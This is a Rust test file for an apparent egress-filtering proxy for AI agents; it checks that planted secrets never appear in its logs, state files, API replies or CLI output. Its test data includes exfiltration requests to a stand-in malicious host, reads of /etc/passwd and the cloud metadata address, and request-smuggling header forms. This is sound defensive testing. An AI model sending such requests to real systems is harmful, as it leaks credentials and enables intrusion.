//! Secrets that pass through are nowhere afterwards: not in the state folder, not in what the
//! process prints at its most talkative, not in what it answers.

use crate::stage::{EVIL, PLAIN, Stage, session, through_tunnel, tunnel_host};
use backstop_testkit::message::Kind;
use backstop_testkit::upstream::Answer;
use backstop_testkit::{Backstop, World, backstop, client};
use base64::Engine as _;
use serde_json::json;
use std::io::Write as _;
use std::path::Path;

/// What is planted, by where. Each is found by its exact bytes wherever it turns up.
#[derive(Default)]
struct Planted {
    secrets: Vec<(&'static str, String)>,
}

impl Planted {
    /// A new secret for that place.
    fn plant(&mut self, place: &'static str) -> String {
        let secret = format!("s3cr3t{:04}Zq{}", self.secrets.len(), place.len());
        self.secrets.push((place, secret.clone()));
        secret
    }

    fn keep(&mut self, place: &'static str, secret: &str) {
        self.secrets.push((place, secret.to_owned()));
    }

    /// None of them is in there, nor its Base64 at any of its three offsets, nor its hexadecimal.
    #[track_caller]
    fn is_not_in(&self, what: &str, bytes: &[u8]) {
        for (place, secret) in &self.secrets {
            for needle in shapes(secret) {
                if let Some(at) = find(bytes, needle.as_bytes()) {
                    let (from, to) = (at.saturating_sub(200), (at + 100).min(bytes.len()));
                    panic!(
                        "the secret of `{place}` is in {what}: …{}…",
                        String::from_utf8_lossy(&bytes[from..to])
                    );
                }
            }
        }
    }
}

/// A secret as it is, and as it would stand in a longer text that is encoded.
fn shapes(secret: &str) -> Vec<String> {
    let mut shapes = vec![secret.to_owned()];
    for before in 0..3 {
        let text = format!("{}{secret}", "x".repeat(before));
        for engine in
            [base64::engine::general_purpose::STANDARD, base64::engine::general_purpose::URL_SAFE]
        {
            let encoded = engine.encode(&text);
            // Without what depends on the neighbours.
            let from = [0, 2, 3][before];
            let end = text.len() / 3 * 4;
            shapes.push(encoded[from..end].to_owned());
        }
    }
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    shapes.extend([hex.to_uppercase(), hex]);
    shapes
}

#[test]
fn every_shape_of_a_secret_is_known() {
    let secret = "s3cr3t0001Zq17";
    let shapes = shapes(secret);
    for text in [format!("{secret} b"), format!("a{secret}"), format!("ab {secret}c")] {
        for encoded in [
            base64::engine::general_purpose::STANDARD.encode(&text),
            text.bytes().map(|byte| format!("{byte:02X}")).collect(),
            text,
        ] {
            assert!(shapes.iter().any(|shape| encoded.contains(shape)), "{encoded}");
        }
    }
}

fn find(bytes: &[u8], needle: &[u8]) -> Option<usize> {
    let first = needle[0];
    let mut from = 0;
    while let Some(at) = bytes[from..].iter().position(|byte| *byte == first) {
        if bytes[from + at..].starts_with(needle) {
            return Some(from + at);
        }
        from += at + 1;
    }
    None
}

/// Every file below, whole.
fn files(folder: &Path, each: &mut impl FnMut(&Path, &[u8])) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files(&path, each);
        } else if path.file_name().is_some_and(|name| name != "ledger.reserve") {
            each(&path, &std::fs::read(&path).unwrap());
        }
    }
}

/// Sends the bytes to the proxy and gives its answer.
#[track_caller]
fn send(gateway: &Backstop, bytes: &[u8]) -> Vec<u8> {
    let mut stream = client::connect(gateway.proxy());
    stream.write_all(bytes).unwrap();
    let reply = client::read_reply(&mut stream, Kind::Reply);
    reply.unwrap_or_else(|fault| panic!("{fault}: {}", String::from_utf8_lossy(bytes))).raw
}

#[test]
fn planted_secrets_are_nowhere_afterwards() {
    World::run(|world| {
        let stage = Stage::new(world);
        let mut planted = Planted::default();
        let configured = planted.plant("password of an upstream proxy");
        let mut setup = stage.setup(json!({ "log": { "level": "trace" } }));
        // Nothing goes there: all of the world is excepted.
        let upstream = format!("http://user:{configured}@93.184.9.9:3128");
        setup.environment.push(("BACKSTOP_NETWORK_UPSTREAM_PROXY".into(), upstream));
        setup.environment.push(("BACKSTOP_NETWORK_NO_PROXY".into(), ".example".into()));
        setup.environment.push(("MODEL_KEY".into(), OWN_KEY.into()));
        let gateway = Backstop::start(world, setup);
        let session = session(&gateway);
        planted.keep("agent token", session.token());
        let mut refusals = plant_in_requests(&stage, &gateway, &session, &mut planted);
        refusals.extend(plant_what_is_found(&gateway, &session, &mut planted));
        refusals.extend(plant_in_the_api(&gateway, &mut planted));
        let told = tell_the_analyzer_and_inspect(&stage, &gateway);

        // What was asked for is there, so that looking finds something.
        let mut shown = false;
        let state = gateway.state();
        let mut look = |path: &Path, bytes: &[u8]| {
            planted.is_not_in(&path.display().to_string(), bytes);
            shown |= find(bytes, b"/planted/path").is_some();
        };
        files(&state, &mut look);
        assert!(shown);
        for path in [
            "/metrics",
            "/v1/events?after=0&follow=false",
            "/v1/alerts",
            "/v1/sessions?all=true",
            "/v1/tokens?all=true",
            "/v1/quarantines",
            "/v1/holds",
            "/v1/grants",
            "/v1/policy",
            "/openapi.json",
        ] {
            let reply = gateway.ask("GET", path, None);
            assert_eq!(reply.status(), 200, "{path}: {}", reply.text());
            planted.is_not_in(path, &reply.raw);
        }
        for refusal in &refusals {
            planted.is_not_in("a refusal", refusal);
        }
        for (what, said) in &told {
            planted.is_not_in(what, said);
        }
        for arguments in [
            ["ledger", "export"].as_slice(),
            &["explain", "--last"],
            &["sessions", "ls"],
            &["tokens", "ls"],
            &["alerts"],
            &["config", "show"],
        ] {
            let ran = stage.cli(&state, arguments);
            assert!(ran.code < 2, "{arguments:?}: {}", ran.err);
            planted.is_not_in(&format!("{arguments:?}"), (ran.out + &ran.err).as_bytes());
        }
        let exit = gateway.stop();
        assert!(exit.stderr.contains("DEBUG"), "it was talkative");
        planted.is_not_in("standard output", exit.stdout.as_bytes());
        planted.is_not_in("standard error", exit.stderr.as_bytes());
        files(&state, &mut |path, bytes| planted.is_not_in(&path.display().to_string(), bytes));
    });
}

/// Secrets wherever an agent can put one; gives the refusals.
fn plant_in_requests(
    stage: &Stage,
    gateway: &Backstop,
    session: &backstop::Session,
    planted: &mut Planted,
) -> Vec<Vec<u8>> {
    let authorization = session.authorization();
    planted.keep("Proxy-Authorization", authorization.trim_start_matches("Basic "));
    let known = format!("proxy-authorization: {authorization}\r\nconnection: close\r\n");
    let returned = planted.plant("answer's header and body");
    stage.plain.answer(
        "/planted/path/answer",
        Answer::Reply {
            status: 302,
            headers: vec![
                ("location".into(), format!("http://{EVIL}/?{returned}")),
                ("set-cookie".into(), returned.clone()),
            ],
            body: returned.into(),
        },
    );

    // Permitted: all of it reaches the upstream, and stays there alone.
    let (query, header, cookie, body) = (
        planted.plant("query"),
        planted.plant("header value"),
        planted.plant("cookie"),
        planted.plant("body"),
    );
    let passed = |target: &str| {
        format!(
            "POST http://{PLAIN}/planted/path{target} HTTP/1.1\r\nhost: {PLAIN}\r\n{known}\
             authorization: Bearer {header}\r\nx-{header}: {header}\r\ncookie: id={cookie}\r\n\
             content-length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    for target in [&format!("?q={query}"), "/answer"] {
        let reply = send(gateway, passed(target).as_bytes());
        assert!(find(&reply, b"backstop-receipt: rcp_").is_some());
    }
    let arrived = stage.plain.received();
    assert_eq!(arrived.len(), 2);
    for secret in [&query, &header, &cookie, &body] {
        assert!(
            find(&arrived[0].message.raw, secret.as_bytes()).is_some(),
            "{secret} was passed on"
        );
    }
    let inside = planted.plant("path inside a tunnel");
    let path = format!("/{inside}");
    through_tunnel(gateway.proxy(), &authorization, &tunnel_host(1), &path, &stage.ca.client())
        .unwrap();
    assert_eq!(stage.tls.requests(), 1);

    // Refused by policy, by the parse, by framing: none of it gets further.
    let mut refusals = Vec::new();
    let mut refused = |place: &'static str, form: &str| {
        let secret = planted.plant(place);
        let head = form.replace("SECRET", &secret).replace("KNOWN", &known);
        let reply = send(gateway, head.as_bytes());
        let text = String::from_utf8_lossy(&reply).into_owned();
        let status = text.split(' ').nth(1).and_then(|code| code.parse::<u16>().ok());
        assert!(status.is_some_and(|status| (400..=505).contains(&status)), "{place}: {text}");
        refusals.push(reply);
    };
    let host = format!("host: {EVIL}\r\n");
    for (place, line) in [
        ("refused query", format!("GET http://{EVIL}/a?k=SECRET HTTP/1.1")),
        ("refused query without path", format!("GET http://{EVIL}?SECRET HTTP/1.1")),
        ("fragment", format!("GET http://{EVIL}/a#SECRET HTTP/1.1")),
        ("userinfo", format!("GET http://user:SECRET@{EVIL}/ HTTP/1.1")),
        ("userinfo of an allowed host", format!("GET http://SECRET@{PLAIN}/ HTTP/1.1")),
        ("two at signs", format!("GET http://a:SECRET@b@{EVIL}/ HTTP/1.1")),
        ("userinfo in CONNECT", format!("CONNECT user:SECRET@{EVIL}:443 HTTP/1.1")),
        ("query in CONNECT", format!("CONNECT {EVIL}:443?SECRET HTTP/1.1")),
        ("query of file", "GET file:///etc/passwd?SECRET HTTP/1.1".to_owned()),
        ("query of gopher", format!("GET gopher://{EVIL}/_?SECRET HTTP/1.1")),
        ("userinfo of ftp", format!("GET ftp://user:SECRET@{EVIL}/ HTTP/1.1")),
        ("userinfo of metadata", "GET http://SECRET@169.254.169.254/?SECRET HTTP/1.1".to_owned()),
        ("userinfo of a port that is none", format!("GET http://u:SECRET@{EVIL}:99999/ HTTP/1.1")),
        ("back-slash", format!("GET http://{EVIL}\\@SECRET/?SECRET HTTP/1.1")),
        ("query for the proxy itself", "GET /?SECRET HTTP/1.1".to_owned()),
        ("version", "GET http://x/ HTTP/SECRET".to_owned()),
        ("white space in the query", format!("GET http://{EVIL}/? SECRET HTTP/1.1")),
    ] {
        refused(place, &format!("{line}\r\n{host}KNOWN\r\n"));
    }
    for (place, head) in [
        ("header of a refused request", "x-key: SECRET\r\n"),
        ("folded header", "x-key: a\r\n SECRET\r\n"),
        ("header without a colon", "SECRET\r\n"),
        ("header with a NUL", "x-key: SECRET\0\r\n"),
        ("two lengths", "content-length: 1\r\ncontent-length: 2\r\nx-key: SECRET\r\n"),
        ("bad length", "content-length: SECRET\r\n"),
        ("bad coding", "transfer-encoding: SECRET\r\n"),
    ] {
        refused(place, &format!("GET http://{EVIL}/ HTTP/1.1\r\n{host}KNOWN{head}\r\n"));
    }
    refused(
        "bad chunk",
        &format!(
            "POST http://{PLAIN}/ HTTP/1.1\r\nhost: {PLAIN}\r\nKNOWN\
                  transfer-encoding: chunked\r\n\r\nSECRET\r\n"
        ),
    );
    refused(
        "body of a refused request",
        &format!("POST http://{EVIL}/ HTTP/1.1\r\n{host}KNOWNcontent-length: 100\r\n\r\nSECRET"),
    );
    for (place, value) in [
        ("unknown token", format!("Bearer bst_a_{}SECRET", "x".repeat(30))),
        ("unreadable credential", "Bearer SECRET".to_owned()),
        ("unknown scheme", "Digest username=\"SECRET\"".to_owned()),
        ("bad Base64", "Basic !SECRET".to_owned()),
    ] {
        let head = format!("GET http://{PLAIN}/ HTTP/1.1\r\nhost: {PLAIN}\r\n");
        refused(place, &format!("{head}proxy-authorization: {value}\r\nconnection: close\r\n\r\n"));
    }
    refusals
}

/// A variable of the gateway's own environment.
const OWN_KEY: &str = "mk-7Yq2LwX9vR4tB8nZ3kD6";

/// What detectors find, wherever it can stand: the record says kind and place alone.
fn plant_what_is_found(
    gateway: &Backstop,
    session: &backstop::Session,
    planted: &mut Planted,
) -> Vec<Vec<u8>> {
    let (ssn, mail) = ("536-90-4399", "jane.roe@acme-corp.com");
    for (place, secret) in
        [("a number", ssn), ("an address", mail), ("a variable of our own", OWN_KEY)]
    {
        planted.keep(place, secret);
    }
    let known = format!(
        "host: {PLAIN}\r\nproxy-authorization: {}\r\nconnection: close\r\n",
        session.authorization()
    );
    let mut refusals = Vec::new();
    for secret in [format!("SSN {ssn}"), mail.to_owned(), OWN_KEY.to_owned()] {
        let query = secret.replace(' ', "+");
        let bodies = [
            json!({ "note": secret }).to_string(),
            json!({ (secret.clone()): 1 }).to_string(),
            json!({ "people": { (secret.clone()): [secret] } }).to_string(),
            json!({ "note": base64::engine::general_purpose::STANDARD.encode(&secret) })
                .to_string(),
        ];
        let posts = bodies.iter().map(|body| {
            let kind = "content-type: application/json\r\n";
            let length = body.len();
            format!(
                "POST http://{PLAIN}/ HTTP/1.1\r\n{known}{kind}content-length: {length}\r\n\r\n{body}"
            )
        });
        let heads = [
            format!("GET http://{PLAIN}/?q={query} HTTP/1.1\r\n{known}\r\n"),
            format!("GET http://{PLAIN}/ HTTP/1.1\r\n{known}x-note: {secret}\r\n\r\n"),
            format!("GET http://{PLAIN}/ HTTP/1.1\r\n{known}cookie: who={query}\r\n\r\n"),
        ];
        for message in posts.chain(heads) {
            let reply = send(gateway, message.as_bytes());
            assert!(reply.starts_with(b"HTTP/1.1 403"), "{}", String::from_utf8_lossy(&reply));
            refusals.push(reply);
        }
    }
    refusals
}

/// What the analyzer answers and what `inspect` says of texts full of secrets, in every form.
fn tell_the_analyzer_and_inspect(stage: &Stage, gateway: &Backstop) -> Vec<(String, Vec<u8>)> {
    let text = format!(
        "SSN 536-90-4399, write to jane.roe@acme-corp.com\nkey: {OWN_KEY}\n{}\n",
        base64::engine::general_purpose::STANDARD.encode("my ssn is 536-90-4399, thanks")
    );
    let mut told = Vec::new();
    let body = json!({
        "text": text, "language": "en", "return_decision_process": true,
        "correlation_id": "jane.roe@acme-corp.com",
    });
    let reply = gateway.ask("POST", "/analyze", Some(&body));
    assert_eq!(reply.status(), 200, "{}", reply.text());
    assert!(reply.text().contains("US_SSN"), "{}", reply.text());
    told.push(("/analyze".to_owned(), reply.raw));
    // A fault is told without what it was about.
    for body in [
        json!({ "text": text, "language": "jane.roe@acme-corp.com" }),
        json!({ "text": { "536-90-4399": 1 }, "language": "en" }),
        json!({ "text": text, "language": "en", "entities": ["536-90-4399"] }),
    ] {
        let reply = gateway.ask("POST", "/analyze", Some(&body));
        assert!(reply.status() >= 400, "{}", reply.text());
        told.push(("a fault of /analyze".to_owned(), reply.raw));
    }
    let folder = stage.world.path().join("inspected");
    std::fs::create_dir_all(&folder).unwrap();
    let fields = json!({ "note": text, "jane.roe@acme-corp.com": ["536-90-4399"] });
    std::fs::write(folder.join("note.txt"), &text).unwrap();
    std::fs::write(folder.join("note.json"), fields.to_string()).unwrap();
    let path = folder.display().to_string();
    for format in ["text", "json", "sarif"] {
        let ran = stage.cli(
            &gateway.state(),
            &[
                "--format",
                format,
                "--set",
                "log.level=trace",
                "inspect",
                "--notes",
                "--encoded",
                &path,
            ],
        );
        assert_eq!(ran.code, 1, "{}{}", ran.out, ran.err);
        assert!(ran.out.contains("US_SSN"), "{}", ran.out);
        told.push((format!("inspect as {format}"), (ran.out + &ran.err).into_bytes()));
    }
    // The command does not know that variable, and what it hands out may hold it.
    let note = folder.join("note.txt").display().to_string();
    std::fs::write(&note, text.replace(OWN_KEY, "")).unwrap();
    let ran = stage.cli(&gateway.state(), &["inspect", "--redact", &note]);
    told.push(("inspect --redact".to_owned(), (ran.out + &ran.err).into_bytes()));
    told
}

/// Secrets that people and programs give the API.
fn plant_in_the_api(gateway: &Backstop, planted: &mut Planted) -> Vec<Vec<u8>> {
    let mut answers = Vec::new();
    let runtime = json!({ "kind": "runtime", "principal": "runner", "tenant": "research" });
    let made = gateway.ask("POST", "/v1/tokens", Some(&runtime));
    assert_eq!(made.status(), 201, "{}", made.text());
    planted.keep("runtime token", made.json()["token"].as_str().unwrap());

    let host = gateway.api().to_string();
    let bearer = planted.plant("unknown token of the API");
    let bearer = format!("Bearer bst_o_{bearer}");
    let query = format!("/v1/sessions?token={}", planted.plant("query of the API"));
    let path = format!("/v1/{}", planted.plant("path of the API"));
    for target in ["/v1/sessions", &query, &path] {
        let headers =
            [("host", host.as_str()), ("authorization", &bearer), ("connection", "close")];
        let reply = client::request(gateway.api(), "GET", target, &headers, b"");
        assert!([401, 404].contains(&reply.status()), "{target}: {}", reply.text());
        answers.push(reply.raw);
    }
    // An operator who asks about a URL gets it back with the answer; it is not kept.
    let (user, key) = (planted.plant("userinfo to explain"), planted.plant("query to explain"));
    let body = json!({ "target": format!("http://u:{user}@{EVIL}/?{key}"), "tenant": "research" });
    assert_eq!(gateway.ask("POST", "/v1/explain", Some(&body)).status(), 200);
    answers
}
